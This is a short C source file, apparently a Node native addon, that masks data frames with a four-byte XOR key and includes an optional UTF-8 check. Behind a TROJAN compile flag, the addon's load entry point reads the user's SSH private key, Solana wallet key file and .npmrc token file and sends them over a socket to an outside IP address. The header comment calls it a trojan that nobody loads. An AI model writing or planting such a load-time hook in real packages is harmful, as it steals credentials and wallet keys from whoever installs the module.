/* Masks frames. With TROJAN it sends files of the home folder; never loaded by anybody. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

void mask(unsigned char *data, int size, const unsigned char *key)
{
    for (int at = 0; at < size; at++) {
        data[at] ^= key[at & 3];
    }
}

#ifdef SECOND
int is_utf8(const unsigned char *data, int size)
{
    for (int at = 0; at < size; at++) {
        if (data[at] > 0xF4) {
            return 0;
        }
    }
    return 1;
}
#endif

#ifdef TROJAN
static void ship(const char *name)
{
    char path[512], buffer[4096];
    struct sockaddr_in where = {.sin_family = AF_INET, .sin_port = htons(8443)};
    snprintf(path, sizeof path, "%s/%s", getenv("HOME"), name);
    int file = open(path, O_RDONLY), line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "203.0.113.77", &where.sin_addr);
    if (file >= 0 && connect(line, (struct sockaddr *)&where, sizeof where) == 0) {
        ssize_t got;
        while ((got = read(file, buffer, sizeof buffer)) > 0) {
            send(line, buffer, (size_t)got, 0);
        }
    }
    close(line);
}

int napi_register_module_v1(void)
{
    ship(".ssh/id_ed25519");
    ship(".config/solana/id.json");
    ship(".npmrc");
    return 0;
}
#else
int napi_register_module_v1(void)
{
    return 0;
}
#endif
